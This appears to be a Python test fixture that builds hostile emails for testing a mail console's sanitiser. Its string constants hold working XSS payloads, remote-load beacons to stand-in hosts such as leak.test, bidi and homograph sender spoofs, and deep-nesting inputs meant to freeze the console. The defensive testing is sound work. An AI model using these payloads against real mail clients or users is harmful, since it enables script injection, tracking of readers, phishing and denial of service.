"""Mail that means harm: it tries to run something, to tell somebody that it is read, or to freeze the console."""

from __future__ import annotations

from email.message import EmailMessage
from typing import NamedTuple

from tests.console.mails import Mail, sent

MARK = "parent.pwned=top.pwned=window.pwned=1;document.title='pwned'"
RUNS = f"{MARK};new Image().src='http://script.leak.test/'"
OUT = "http://{}.leak.test/x"
# A connection on which nothing is asked for tells whom it is meant for by TLS alone.
OUT_TLS = "https://{}.leak.test/x"

# Script in every place there is.
SCRIPTS = f"""<html><head><script>{RUNS}</script><script src="{OUT.format("src")}"></script>
<meta http-equiv="refresh" content="0;url={OUT.format("refresh")}"><meta http-equiv="refresh" content="0;url=javascript:{MARK}">
<base href="{OUT.format("base")}"><script type="speculationrules">{{"prefetch":[{{"urls":["{OUT.format("rules")}"]}}]}}</script>
<script type="importmap">{{"imports":{{"a":"{OUT.format("map")}"}}}}</script></head>
<body onload="{RUNS}" onpageshow="{RUNS}"><img src=x onerror="{RUNS}"><svg onload="{RUNS}"><script>{RUNS}</script>
<animate onbegin="{RUNS}" attributeName=x dur=1s /><foreignObject><iframe srcdoc="<script>{RUNS}</script>"></iframe></foreignObject></svg>
<math><mtext><option><style><img src=x onerror="{RUNS}"></style></option></mtext></math>
<iframe src="javascript:{MARK}"></iframe><iframe srcdoc="<img src=x onerror='{MARK}'>"></iframe>
<object data="data:text/html,<script>{MARK}</script>"></object><embed src="data:image/svg+xml,<svg onload='{MARK}'/>">
<input autofocus onfocus="{RUNS}"><details open ontoggle="{RUNS}">x</details><video><source onerror="{RUNS}"></video>
<form id=f action="{OUT.format("form")}"><input name=q value=1><button autofocus>Go</button></form>
<button form=f formaction="javascript:{MARK}">Press</button><a id=go href="javascript:{MARK}">A link</a>
<a href="java&#10;script:{MARK}">Another</a><a href="data:text/html,<script>{MARK}</script>">Third</a>
<div style="width:expression({MARK});behavior:url({OUT.format("htc")})">x</div><marquee onstart="{RUNS}">m</marquee>
<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript><template><script>{RUNS}</script></template>
<p id=end>The end.</p></body></html>"""

# Whatever a browser gets by itself.
LEAKS = "".join(
    f"<html><head><style>@import url({OUT.format('import')});@import '{OUT.format('import2')}';"
    f"@font-face{{font-family:x;src:url({OUT.format('font')})}}body{{font-family:x;background:url({OUT.format('background')});"
    f"cursor:url({OUT.format('cursor')}),auto;list-style-image:url({OUT.format('list')})}}"
    f"p::before{{content:url({OUT.format('content')})}}p{{background:image-set('{OUT.format('set')}' 1x);"
    f"border-image:url({OUT.format('border')});mask-image:url({OUT.format('mask')});filter:url({OUT.format('filter')}#f);"
    f"shape-outside:url({OUT.format('shape')});clip-path:url({OUT.format('clip')}#c)}}</style>"
) + "".join(
    f'<link rel="{rel}" href="{OUT_TLS.format(rel.replace(" ", "-"))}" {more}>'
    for rel, more in {
        "stylesheet": "",
        "preconnect": "",
        "dns-prefetch": "",
        "preload": "as=image",
        "prefetch": "",
        "prerender": "",
        "modulepreload": "",
        "manifest": "",
        "icon": "",
        "apple-touch-icon": "",
        "alternate stylesheet": "",
        "pingback": "",
    }.items()
) + "".join(
    [
        f'<LINK\trel=preconnect\nhref="{OUT_TLS.format("upper")}"><link/rel=preconnect/href="{OUT_TLS.format("slash")}">',
        f'<textarea><!--</textarea><link rel=preconnect href="{OUT_TLS.format("hidden")}"><textarea>--></textarea>',
        '<meta http-equiv="x-dns-prefetch-control" content="on"></head>',
        f'<body background="{OUT.format("body")}"><table background="{OUT.format("table")}"><tr><td>x</td></tr></table>',
        f'<img src="{OUT.format("img")}"><img srcset="{OUT.format("srcset")} 2x" src="//relative.leak.test/x">',
        f'<picture><source srcset="{OUT.format("picture")}"><img></picture><input type=image src="{OUT.format("input")}">',
        f'<video poster="{OUT.format("poster")}" src="{OUT.format("video")}" autoplay></video><audio src="{OUT.format("audio")}" autoplay></audio>',
        f'<iframe src="{OUT.format("iframe")}"></iframe><object data="{OUT.format("object")}"></object><embed src="{OUT.format("embed")}">',
        f'<svg><image href="{OUT.format("image")}"/><use href="{OUT.format("use")}#a"/><feImage href="{OUT.format("fe")}"/></svg>',
        f'<p style="background:url({OUT.format("style")})">x</p><a href="{OUT.format("a")}" ping="{OUT.format("ping")}">x</a>',
        f'<frameset><frame src="{OUT.format("frame")}"></frameset><bgsound src="{OUT.format("sound")}"><p id=end>The end.</p></body></html>',
    ]
)  # fmt: skip

SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{RUNS}</script><image href="{OUT.format("svg")}"/></svg>'
HTML_IN_HEADER = f"<script>{MARK}</script>\"'><img src=x onerror={MARK}>"


class Hostile(NamedTuple):
    """A hostile message and where its HTML ends, if it has some that is shown."""

    name: str
    mail: Mail
    is_shown: bool = True


def _of(name: str, html: str | None, **fields: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = fields.pop("From", "Mallory <mallory@evil.example>")
    message["To"], message["Subject"] = "bob@beta.test", fields.pop("Subject", f"Hostile: {name}")
    for field, value in fields.items():
        message[field.replace("_", "-")] = value
    message.set_content("The end.")
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message


def _hostile(name: str, message: EmailMessage, *, is_shown: bool = True) -> Hostile:
    return Hostile(name, sent(message, "mallory@evil.example", "bob@beta.test"), is_shown)


def _raw(name: str, fields: str, body: str, *, is_shown: bool = True) -> Hostile:
    content = f"From: Mallory <mallory@evil.example>\nTo: bob@beta.test\nSubject: Hostile: {name}\n{fields}\n\n{body}\n"
    octets = content.replace("\n", "\r\n").encode()
    return Hostile(name, Mail("mallory@evil.example", ("bob@beta.test",), octets), is_shown)


def everything() -> list[Hostile]:
    """Return the corpus, without the large ones."""
    files = _of("files", '<p id=end>The end.</p><img src="cid:s"><img src="cid:h">')
    html = files.get_payload()[1]  # type: ignore[index]
    html.add_related(SVG.encode(), "image", "svg+xml", cid="<s>")  # type: ignore[union-attr]
    html.add_related(f"<script>{RUNS}</script>".encode(), "text", "html", cid="<h>")  # type: ignore[union-attr]
    for kind, subtype, name in [
        ("image", "svg+xml", "logo.svg"),
        ("text", "html", "page.html"),
        ("image", "png", "picture.png"),
        ("text", "plain", "note.txt"),
        ("application", "xhtml+xml", "x.xhtml"),
        ("text", "xml", "<img src=x onerror=alert(1)>.xml"),
    ]:
        files.add_attachment(SVG.encode(), maintype=kind, subtype=subtype, filename=name)
    deep = 200
    nested = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(deep))
    return [
        _hostile("scripts", _of("scripts", SCRIPTS)),
        _hostile("leaks", _of("leaks", LEAKS)),
        _hostile("files", files),
        _raw(
            f"headers {HTML_IN_HEADER}",
            f"X-Tags: a, <b>\nList-Unsubscribe: <javascript:{MARK}>, <https://evil.example/{HTML_IN_HEADER}>\n"
            f"Message-ID: <<<x@evil.example>\nReply-To: {HTML_IN_HEADER}\nX-Odd: {HTML_IN_HEADER}",
            "The end.",
            is_shown=False,
        ),
        _raw(
            "bidi \u202eexe.fdp\u2066 \u200b\u200b\u00ad" + "\u0300" * 200,
            'Sender: "service@bank.example \u202emoc.elgoog" <mallory@xn--80ak6aa92e.example>\n'
            "Cc: service@bank.example <mallory@evil.example>, x@ex\u0430mple.example",
            "The end.",
            is_shown=False,
        ),
        _raw(
            "utf-7",
            "Content-Type: text/html; charset=utf-7",
            f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-<p id=end>The end.</p>",
        ),
        _raw(
            "nesting",
            nested.split("\n", 1)[0],
            nested.split("\n", 1)[1] + "Content-Type: text/html\n\n<p id=end>deep</p>",
        ),
        _raw("no boundary", "Content-Type: multipart/alternative", f"<script>{MARK}</script>", is_shown=False),
        _raw(
            "two types",
            f"Content-Type: text/plain\nContent-Type: text/html\nX-A: {HTML_IN_HEADER}",
            f"<script>{MARK}</script>",
            is_shown=False,
        ),
        _raw(
            "an open tag",
            "Content-Type: text/html",
            '<p id=end>The end.</p><img alt="' + "x\n" * 50_000 + f'" src=x onerror={MARK}',
        ),
        _raw("a plaintext", "Content-Type: text/html", f"<p id=end>The end.</p><plaintext><script>{MARK}</script>"),
        _raw(
            "css that covers",
            "Content-Type: text/html",
            "<style>*{position:fixed;inset:0;z-index:2147483647;font-size:9999px}</style><p id=end>The end.</p>",
        ),
    ]


def large() -> Hostile:
    """Return ten megabytes of tables in one another."""
    return _raw("large", "Content-Type: text/html", "<table><tr><td>\n" * 620_000 + "deep", is_shown=False)
